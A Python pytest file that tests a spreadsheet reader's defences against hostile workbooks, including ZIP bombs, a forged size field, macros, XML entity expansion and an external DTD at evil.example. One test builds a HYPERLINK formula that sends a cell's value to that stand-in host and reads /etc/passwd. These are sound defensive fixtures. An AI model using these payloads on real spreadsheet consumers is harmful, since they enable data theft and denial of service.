"""Workbooks that nobody should open blindly: each ends in a clear word and a number, never in a traceback or a full memory."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Callable
from io import BytesIO

import pytest
from booking import BOOK, base
from openpyxl import Workbook

from materials_rules.ground.errors import LimitExceeded, MaterialsRulesError, NotAPacket
from materials_rules.rules.grammar import position
from materials_rules.rules.item import ItemFile
from materials_rules.sheet import notation, package
from materials_rules.sheet.cells import read_workbook
from materials_rules.sheet.citation import Acts, found_in
from materials_rules.sheet.export import exported
from materials_rules.sheet.gathering import gather

GOOD = exported(base()).data
SHEET = "xl/worksheets/sheet2.xml"


def repacked(change: Callable[[dict[str, bytes]], None]) -> bytes:
    """The workbook of the base with its parts changed."""
    with zipfile.ZipFile(BytesIO(GOOD)) as package_:
        parts = {name: package_.read(name) for name in package_.namelist()}
    change(parts)
    into = BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as package_:
        for name, data in parts.items():
            package_.writestr(name, data)
    return into.getvalue()


def put(name: str, data: bytes) -> bytes:
    return repacked(lambda parts: parts.__setitem__(name, data))


def replaced(name: str, old: bytes, new: bytes) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new, 1)

    return repacked(change)


def encrypted_entry() -> bytes:
    data = bytearray(GOOD)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "S-NOT-XLSX"),
        ("事项,材料\n甲,乙\n".encode(), "S-NOT-XLSX"),
        (b"<html><table></table></html>", "S-NOT-XLSX"),
        (OLE, "S-XLS"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "S-ENCRYPTED"),
        (encrypted_entry(), "S-ENCRYPTED"),
        (GOOD[: len(GOOD) // 2], "S-BROKEN"),
        (b"PK\x03\x04" + b"\0" * 100, "S-BROKEN"),
        (put("xl/vbaProject.bin", b"x"), "S-MACROS"),
        (put("xl/externalLinks/externalLink1.xml", b"<x/>"), "S-LINKS"),
        (repacked(lambda parts: parts.pop("xl/workbook.xml")), "S-NOT-XLSX"),
        (put("xl/WORKBOOK.xml", b"<x/>"), "S-BROKEN"),
        (put(SHEET, b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>'), "S-XML"),
        (put(SHEET, b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><worksheet/>'), "S-XML"),
        (put(SHEET, b'<worksheet><!ENTITY a "b"></worksheet>'), "S-XML"),
        (put(SHEET, '<?xml version="1.0"?><!DOCTYPE x []><x/>'.encode("utf-16")), "S-XML"),
        (put(SHEET, b'<?xml version="1.0" encoding="utf-7"?><x/>'), "S-XML"),
        (put(SHEET, b"<worksheet><sheetData>"), "S-BROKEN"),
        (put("xl/styles.xml", b"<x/>"), None),
        (put("xl/workbook.xml", b"<x/>"), "S-BROKEN"),
        (replaced(SHEET, b't="inlineStr"', b't="q"'), None),
        (replaced(SHEET, b"inlineStr", b"s"), None),
    ],
)
def test_what_is_no_workbook_is_refused_with_a_reason(data: bytes, code: str | None) -> None:
    try:
        read_workbook(data, BOOK)
    except NotAPacket as refused:
        assert code in (None, refused.diagnostics[0].code)
        assert refused.exit_code == 30
    else:
        assert code is None


def test_a_bomb_is_not_unpacked() -> None:
    data = put("xl/media/zeros.xml", b"0" * (package.MOST_UNPACKED + 1))
    assert len(data) < 300_000

    with pytest.raises(LimitExceeded) as refused:
        read_workbook(data, BOOK)
    assert [one.code for one in refused.value.diagnostics] == ["S-LARGE"]
    assert refused.value.exit_code == 31


def test_a_size_that_lies_is_no_way_in() -> None:
    """The directory says that a part is small; what is read stops there and its checksum does not fit."""
    data = bytearray(put("xl/media/big.xml", b"0" * 5_000_000))
    at = data.rfind(b"xl/media/big.xml") - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")

    with pytest.raises(NotAPacket):
        read_workbook(bytes(data), BOOK)


@pytest.mark.parametrize(
    "inside",
    [
        b"<sheetData>" + b"<row/>" * (package.MOST_CELLS + 1) + b"</sheetData>",
        b'<sheetData/><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        b'<sheetData/><mergeCells><mergeCell x="1"  ref = "$B$2:$B$30000"/></mergeCells>',
    ],
)
def test_a_sheet_that_claims_the_world_is_refused(inside: bytes) -> None:
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'

    with pytest.raises(LimitExceeded) as refused:
        read_workbook(put(SHEET, head + inside + b"</worksheet>"), BOOK)
    assert [one.code for one in refused.value.diagnostics] == ["S-MANY"]


def test_a_claimed_size_alone_costs_nothing() -> None:
    data = replaced(SHEET, b"<sheetFormatPr", b'<dimension ref="A1:XFD1048576"/><sheetFormatPr')

    assert gather(read_workbook(data, BOOK), BOOK).faults == []


def test_a_formula_is_told_and_never_worked_out() -> None:
    book = Workbook()
    page = book.worksheets[0]
    page.title = "材料"
    page["A1"], page["A2"], page["A3"] = "事项", "$事项", '=HYPERLINK("http://evil.example/?"&B1,"甲")'
    page["B1"], page["B2"], page["B3"] = "名称", "name", "='file:///etc/[passwd]x'!A1"
    into = BytesIO()
    book.save(into)

    (grid,) = read_workbook(into.getvalue(), BOOK)
    assert {cell.kind for (row, _), cell in grid.cells.items() if row == 3} == {"formula"}
    found = [one for one in gather([grid], BOOK).faults if one.code == "S-FORMULA"]
    assert [one.place.pointer for one in found] == ["材料!A3", "材料!B3"]


@pytest.mark.parametrize("seed", range(120))
def test_a_damaged_workbook_never_crashes(seed: int) -> None:
    rng = random.Random(seed)

    def change(parts: dict[str, bytes]) -> None:
        name = rng.choice([name for name in parts if name.endswith((".xml", ".rels"))])
        data = bytearray(parts[name])
        for _ in range(rng.choice((1, 3, 30))):
            at = rng.randrange(len(data))
            match rng.randrange(3):
                case 0:
                    data[at] = rng.randrange(256)
                case 1:
                    del data[at : at + rng.randrange(1, 40)]
                case _:
                    data[at:at] = rng.choice([b"<", b">", b'"', b"&", b"</c>", b"\0", b"-9999999999", b"\xff"])
            if not data:
                break
        parts[name] = bytes(data)

    try:
        found = gather(read_workbook(repacked(change), BOOK), BOOK)
    except MaterialsRulesError as refused:
        assert refused.exit_code in (30, 31)
    else:
        assert all(one.say("zh") and one.say("en") for one in found.faults)


@pytest.mark.parametrize("seed", range(40))
def test_damaged_bytes_never_crash(seed: int) -> None:
    rng = random.Random(seed)
    data = bytearray(GOOD)
    for _ in range(rng.choice((1, 5, 50))):
        data[rng.randrange(len(data))] = rng.randrange(256)

    try:
        gather(read_workbook(bytes(data), BOOK), BOOK)
    except MaterialsRulesError as refused:
        assert refused.exit_code in (30, 31)


@pytest.mark.parametrize(
    "text",
    ["a" + " " * 200_000 + "b", "《" * 200_000, "《许可法》" * 40_000, "〔" * 200_000, "- " * 100_000, "a:" * 100_000, '"' * 200_000,
     "甲\n" * 100_000 + "〔假定〕", "[" * 200_000, "\\" * 200_000, "第" * 200_000],
)  # fmt: skip
@pytest.mark.parametrize("path", [("elements", "legal_basis"), ("elements", "item_name"), ("elements", "acceptance_conditions")])
def test_a_very_long_text_is_read_at_once(text: str, path: tuple[str, ...]) -> None:
    """Each takes milliseconds; a pattern that goes back over its text would take minutes and meet the time limit of the run."""
    acts = Acts({"law": "许可法"})
    try:
        notation.read(text, position(ItemFile, path), acts)
    except notation.CellUnreadable as unreadable:
        assert unreadable.code.startswith("S-")
    found_in(text, acts)
